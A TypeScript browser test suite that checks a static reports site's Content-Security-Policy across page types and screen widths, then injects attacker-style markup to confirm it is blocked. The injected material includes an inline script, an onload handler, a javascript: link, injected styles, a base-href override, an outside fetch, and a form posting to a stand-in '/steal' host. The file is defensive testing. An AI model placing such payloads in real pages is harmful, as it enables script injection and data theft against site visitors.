// Every page type of every fixture site (both editions, root and sub-path) in Chromium under its own
// Content-Security-Policy: nothing refused, nothing fetched from outside, the site's scripts still work.
// Then as an attacker: markup that slipped into a page must not run, style or fetch anything.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchChromium } from '../helpers/chromium.ts';
import { guardedPage, pageTypes, searchSettled, searchWord, SEARCH_WORD } from '../helpers/browse.ts';
import { serveSite, type Served } from '../helpers/serve.ts';
import { SITES, siteDir, type SiteName } from '../helpers/sites.ts';
import { CONTENT_SECURITY_POLICY } from '../../src/lib/csp.ts';

// Both editions, a sub-path, a one-year site (no compare pages), the gov-info-disclosure kind, and
// reports written as an attacker would.
const NAMES: SiteName[] = ['seriesPublic', 'seriesInternal', 'seriesPublicBase', 'minimalInternalBase', 'govInfo', 'hostile'];
const DESK = { width: 1280, height: 900 };
const PHONE = { width: 390, height: 844 };
let browser: Browser;
const served = new Map<SiteName, Served>();

beforeAll(async () => {
  browser = await launchChromium();
  for (const name of NAMES) served.set(name, await serveSite(siteDir(name), SITES[name].base));
});
afterAll(async () => {
  await browser?.close();
  for (const s of served.values()) await s.close();
});

describe('every page under the Content-Security-Policy', () => {
  for (const name of NAMES) {
    it(`${name}: every page type without a violation or an outside request`, async () => {
      const site = served.get(name)!;
      const types = pageTypes(siteDir(name), searchWord(name));
      expect(types.map((t) => t.type)).toEqual(expect.arrayContaining(['home', 'report', 'trends', 'metric', 'measures', 'search', '404']));
      const desk = await guardedPage(browser, site, DESK);
      const phone = await guardedPage(browser, site, PHONE);
      for (const { type, path } of types) {
        // Only the report page's scripts depend on the width (the contents start closed on a phone).
        for (const g of type === 'report' ? [desk, phone] : [desk]) {
          const where = `${name} ${type} ${g === desk ? 'desktop' : 'phone'}`;
          await g.visit(path);
          const { page } = g;
          // The policy is the first thing in <head> after the charset, so it governs everything after it.
          const head = await page.evaluate(() => [...document.head.children].slice(0, 2).map((el) => [el.getAttribute('charset'), el.getAttribute('http-equiv'), el.getAttribute('content')]));
          expect(head[0]![0], where).toBe('utf-8');
          expect(head[1], where).toEqual([null, 'Content-Security-Policy', CONTENT_SECURITY_POLICY]);
          // The site's own scripts ran under it.
          if (type === 'search') expect(await searchSettled(page), `${where}: results for ${searchWord(name)}`).toBeGreaterThan(0);
          if (type === 'report' && (await page.locator('[data-compare-picker]').count()) > 0) {
            expect(await page.locator('.compare-picker__form').isVisible(), where).toBe(true);
          }
          if (type === 'report') {
            // Contents start closed on a phone, open on a desk (the TOC script).
            expect(await page.locator('details[data-collapse-narrow]').evaluate((d) => (d as HTMLDetailsElement).open), where).toBe(g === desk);
          }
          if (type === '404') {
            expect(await page.locator('h1').innerText(), where).toBe('页面不存在');
            // Its links work from any depth: they are absolute under the base.
            expect(await page.locator('main a').first().getAttribute('href'), where).toBe(SITES[name].base);
          }
          expect(await g.violations(), where).toEqual([]);
          // The 404 page's own status is the one thing Chromium logs there.
          expect(g.console, where).toEqual(type === '404' ? ['error: Failed to load resource: the server responded with a status of 404 (Not Found)'] : []);
          expect(g.outside, where).toEqual([]);
          expect(g.failed, where).toEqual(type === '404' ? [`404 ${site.url}${path}`] : []);
        }
      }
      await desk.page.close();
      await phone.page.close();
    });
  }

  it('search still works when Pagefind cannot start its worker and runs WebAssembly on the page', async () => {
    const site = served.get('seriesPublicBase')!;
    const page = await browser.newPage();
    await page.addInitScript(() => {
      window.Worker = class {
        constructor() {
          throw new Error('workers disabled for this test');
        }
      } as unknown as typeof Worker;
      const seen: string[] = [];
      (window as unknown as { __v: string[] }).__v = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    });
    const requested: string[] = [];
    page.on('request', (r) => requested.push(new URL(r.url()).pathname));
    await page.goto(`${site.url}search/?q=${encodeURIComponent(SEARCH_WORD)}`, { waitUntil: 'networkidle' });
    expect(await searchSettled(page)).toBeGreaterThan(0);
    expect(requested).toContain('/reports/pagefind/wasm.unknown.pagefind');
    expect(requested).not.toContain('/reports/pagefind/pagefind-worker.js');
    expect(await page.evaluate(() => (window as unknown as { __v: string[] }).__v)).toEqual([]);
    await page.close();
  });
});

describe('markup that slipped into a page, as an attacker would place it', () => {
  it('runs no inline script, handler or javascript: link, loads nothing from elsewhere, applies no inline style', async () => {
    const site = served.get('seriesPublic')!;
    const g = await guardedPage(browser, site);
    await g.visit('2022/');
    const { page } = g;
    const PIXEL = 'http://198.51.100.7/pixel.png';
    const pixelRefused = page.waitForEvent('requestfailed', (r) => r.url() === PIXEL);
    // Each attempt waits for the browser's own report of the refusal (an event, not a timer).
    const ran = await page.evaluate(async () => {
      const w = window as unknown as { pwned: string[] };
      w.pwned = [];
      const counts = new Map<string, number>();
      const waiters: { directive: string; n: number; resolve: () => void }[] = [];
      document.addEventListener('securitypolicyviolation', (e) => {
        counts.set(e.effectiveDirective, (counts.get(e.effectiveDirective) ?? 0) + 1);
        for (const x of waiters) if ((counts.get(x.directive) ?? 0) >= x.n) x.resolve();
      });
      const refused = (directive: string, n = 1) =>
        new Promise<void>((resolve) => ((counts.get(directive) ?? 0) >= n ? resolve() : waiters.push({ directive, n, resolve })));
      const text = document.querySelector('.report-text')!;
      const add = (html: string) => {
        const box = document.createElement('div');
        box.innerHTML = html;
        text.append(box);
        return box.firstElementChild as HTMLElement;
      };
      // A script element as parsed content would produce (innerHTML alone never runs <script>).
      const s = document.createElement('script');
      s.textContent = 'window.pwned.push("inline script")';
      text.append(s);
      await refused('script-src-elem');
      const img = add('<img src="/favicon.svg?x" onload="window.pwned.push(\'onload\')">') as HTMLImageElement;
      await new Promise((r) => (img.complete ? r(null) : img.addEventListener('load', r)));
      await refused('script-src-attr');
      const link = add('<a href="javascript:window.pwned.push(\'javascript: link\')">点我</a>') as HTMLAnchorElement;
      link.click();
      await refused('script-src-elem', 2);
      add('<img src="http://198.51.100.7/pixel.png">');
      await refused('img-src');
      const styled = add('<p style="color: rgb(1, 2, 3)">样式</p>');
      await refused('style-src-attr');
      add('<style>.report-text p { background: rgb(4, 5, 6) }</style>');
      await refused('style-src-elem');
      add('<base href="http://198.51.100.7/">');
      await refused('base-uri');
      let fetched = 'refused';
      try {
        await fetch('http://198.51.100.7/data');
        fetched = 'fetched';
      } catch {
        /* connect-src */
      }
      await refused('connect-src');
      const form = add('<form action="http://198.51.100.7/steal" method="get"><input name="q" value="x"></form>') as HTMLFormElement;
      form.submit();
      await refused('form-action');
      return {
        pwned: w.pwned,
        color: getComputedStyle(styled).color,
        background: getComputedStyle(styled).backgroundColor,
        base: document.baseURI,
        fetched,
      };
    });
    expect(ran.pwned).toEqual([]);
    expect(ran.color).not.toBe('rgb(1, 2, 3)');
    expect(ran.background).not.toBe('rgb(4, 5, 6)');
    expect(ran.base).toBe(`${site.url}2022/`);
    expect(ran.fetched).toBe('refused');
    expect(page.url()).toBe(`${site.url}2022/`);
    // Chromium reports the image request, but refused it before sending.
    expect((await pixelRefused).failure()?.errorText).toBe('csp');
    expect(g.outside).toEqual([PIXEL]);
    await page.close();
  });
});
